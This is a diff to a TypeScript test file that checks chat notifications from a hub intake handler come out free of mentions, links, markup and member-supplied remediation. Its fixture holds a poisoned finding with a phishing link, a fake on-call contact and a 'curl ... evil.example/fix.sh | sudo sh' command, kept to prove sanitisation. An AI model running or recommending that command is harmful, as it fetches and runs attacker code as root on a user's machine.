@@ -5,8 +5,10 @@
  * forging a link, `*`/`_`/`~`/backticks forging the message's own bold lines ("*Resolved: no action needed*"),
  * a megabyte name pushing the message past what the chat shows.
  *
- * Through the lifecycle stage, as a run hands its findings over: every chat message is valid against the
- * documented format and within its bounds, and no mention, link, markup or hostile URL survives in any field.
+ * Through the lifecycle stage, as a run hands its findings over, and through the hub's intake handler, as a
+ * member's run report arrives: every chat message is valid against the documented format and within its bounds,
+ * and no mention, link, markup or hostile URL survives in any field; at the hub none of the member's remediation
+ * either, and every message names the member's account.
  */
 import fc from 'fast-check';
 import { LifecycleStage, type ChatSink } from '../../lambdas/app/lifecycle-stage';
@@ -16,6 +18,13 @@ import { lifecycleSettingsSchema } from '../../lambdas/core/lifecycle/settings';
 import type { FindingPublisher, PublishReport } from '../../lambdas/core/publishing';
 import { ACCOUNT, customNotificationErrors, finding, RUNBOOK } from '../fixtures/chat';
 import { MemoryLedger, RecordingEvents } from '../fixtures/lifecycle-fakes';
+import { carryResourceKey } from '../../lambdas/core/finding-factory';
+import { CATALOGUE } from '../../lambdas/core/catalogue';
+import { HUB_ACCOUNT, MEMBER_A, memberFinding, reportDetails, reportEvent } from '../fixtures/fleet';
+import { useIntakeHandler } from './hub-intake-harness';
+
+const CHAT_TOPIC = `arn:aws:sns:eu-central-1:${HUB_ACCOUNT}:tmc-health-hub-chat`;
+const { deliverBatch, publishes } = useIntakeHandler({ chatTopicArn: CHAT_TOPIC });
 
 class RecordingChat implements ChatSink {
   readonly messages: ChatMessage[] = [];
@@ -176,5 +185,43 @@ describe('hostile names in the chat: no mention, link or markup survives, every 
       }),
       { numRuns: 150 },
     );
+  });
+});
+
+describe("at the hub, through the intake handler: a member's report reaches the organization's channel", () => {
+  it("names the member's account, shows the catalogue's words, and nothing of the member's", async () => {
+    const honest = memberFinding(MEMBER_A, 'victim', 'FAIL');
+    const poisoned = carryResourceKey(honest, {
+      ...honest,
+      tmc: {
+        credentialName: '<!channel> @here [Runbook](https://evil.example/login)',
+        component: 'data-sync',
+      },
+      remediation: {
+        text: '1. Run: curl -s https://evil.example/fix.sh | sudo sh',
+        whoCanFix: 'The on-call line: +1 555 0100 (ask for Mallory)',
+        runbookUrl: 'https://evil.example/runbook',
+      },
+    });
+    const details = reportDetails({ accountId: MEMBER_A, findings: [poisoned] });
+    expect(await deliverBatch(details.map((detail) => reportEvent(detail)))).toEqual({
+      batchItemFailures: [],
+    });
+
+    const chat = publishes
+      .filter(({ input }) => input.TopicArn === CHAT_TOPIC)
+      .map(({ input }) => (JSON.parse(input.Message!) as { default: string }).default);
+    expect(chat).toHaveLength(1);
+    const notification = JSON.parse(chat[0]!) as ChatMessage['notification'];
+    expectInert({ notification, label: 'hub', deduplicationKey: 'hub' });
+    expect(notification.content.title).toMatch(
+      new RegExp(`^\\[New HIGH\\] tmc\\.lambda\\.errors: account ${MEMBER_A} `),
+    );
+    expect(notification.content.keywords).toContain(MEMBER_A);
+    expect(notification.content.description).toContain(CATALOGUE['tmc.lambda.errors'].whoCanFix);
+    const text = JSON.stringify(notification);
+    for (const words of ['curl', 'Mallory', 'evil.example/runbook', 'evil.example/fix']) {
+      expect(text).not.toContain(words);
+    }
   });
 });
